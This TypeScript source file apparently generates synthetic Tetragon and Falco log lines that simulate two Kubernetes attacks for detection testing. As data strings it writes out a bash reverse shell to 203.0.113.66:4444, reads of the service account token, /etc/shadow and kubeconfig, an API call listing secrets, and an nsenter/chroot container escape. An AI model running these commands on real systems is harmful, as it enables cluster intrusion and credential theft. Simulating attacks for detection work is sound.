import {
  falcoLine,
  LAUNCHED_NAMESPACE_CHANGE,
  REDIRECTED_SHELL,
  TERMINAL_SHELL,
  type FalcoRule,
} from './falco-lines.ts';
import type { FleetPod } from './fleet.ts';
import {
  execLine,
  fileRead,
  kprobeLine,
  startProcess,
  tcpConnect,
  type Moment,
  type StreamProcess,
} from './tetragon-lines.ts';

export interface TimedLine {
  readonly micros: number;
  readonly line: string;
}

export interface AttackContext {
  readonly pod: FleetPod;
  readonly startMicros: number;
  /** The next free pid of a node. */
  readonly nextPid: (node: string) => number;
  /** Nanoseconds below a microsecond. */
  readonly nanos: () => number;
}

const TOKEN_PATH = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const STEP_MICROS = 700_000;

/** Collects the lines of one attack; each step happens 0.7 s after the one before. */
class AttackScript {
  readonly lines: TimedLine[] = [];
  readonly #context: AttackContext;
  #micros: number;

  constructor(context: AttackContext) {
    this.#context = context;
    this.#micros = context.startMicros;
  }

  #next(): Moment {
    this.#micros += STEP_MICROS;
    return { micros: this.#micros, nanos: this.#context.nanos() };
  }

  start(parent: StreamProcess | null, binary: string, argumentsText: string): StreamProcess {
    const { pod, nextPid } = this.#context;
    const at = this.#next();
    const pid = nextPid(pod.node);
    const process = startProcess({
      pod,
      parent: parent ?? { execId: pod.mainExecId, json: pod.mainProcessJson },
      pid,
      containerPid: (pid % 30_000) + 2,
      binary,
      arguments: argumentsText,
      cwd: pod.profile.cwd,
      at,
    });
    this.lines.push({ micros: at.micros, line: execLine(process, at) });
    return process;
  }

  kprobe(process: StreamProcess, call: ReturnType<typeof fileRead>): void {
    const at = this.#next();
    this.lines.push({ micros: at.micros, line: kprobeLine(process, at, call) });
  }

  alert(rule: FalcoRule, process: StreamProcess, fdName: string | null): void {
    const at = this.#next();
    const about = { ...process, parentBinary: process.pod.profile.binary };
    this.lines.push({ micros: at.micros, line: falcoLine(rule, about, { at, fdName }) });
  }
}

/** A hole in a web application: a shell of the web server, a reverse shell, the pod's token read. */
export function webShellAttack(context: AttackContext): readonly TimedLine[] {
  const script = new AttackScript(context);
  const first = script.start(null, '/bin/sh', '-c "id; uname -a"');
  script.start(first, '/usr/bin/id', '');
  const carrier = script.start(
    null,
    '/bin/bash',
    '-c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"',
  );
  const shell = script.start(carrier, '/bin/bash', '-i');
  script.kprobe(
    shell,
    tcpConnect({
      sourceIp: context.pod.ip,
      sourcePort: 40_000 + (shell.pid % 20_000),
      destinationIp: '203.0.113.66',
      destinationPort: 4444,
      cookie: `184466134242${shell.pid}`,
    }),
  );
  script.alert(REDIRECTED_SHELL, shell, `${context.pod.ip}:44120->203.0.113.66:4444`);
  script.alert(TERMINAL_SHELL, shell, null);
  const reader = script.start(shell, '/usr/bin/cat', TOKEN_PATH);
  script.kprobe(reader, fileRead(TOKEN_PATH));
  script.start(
    shell,
    '/usr/bin/curl',
    '-sk https://10.43.0.1/api/v1/namespaces/default/secrets -H "Authorization: Bearer ey"',
  );
  return script.lines;
}

/** Out of a privileged pod that mounts the host's root: nsenter into the first process, then chroot. */
export function escapeAttack(context: AttackContext): readonly TimedLine[] {
  const script = new AttackScript(context);
  const shell = script.start(null, '/bin/sh', '-c "ls /host"');
  script.alert(TERMINAL_SHELL, shell, null);
  script.kprobe(shell, fileRead('/host/etc/shadow'));
  const entered = script.start(shell, '/usr/bin/nsenter', '-t 1 -m -u -i -n -p -- /bin/bash');
  script.alert(LAUNCHED_NAMESPACE_CHANGE, entered, null);
  const host = script.start(entered, '/bin/bash', '');
  script.start(host, '/usr/sbin/chroot', '/host /bin/bash');
  script.start(host, '/usr/bin/cat', '/root/.kube/config');
  return script.lines;
}
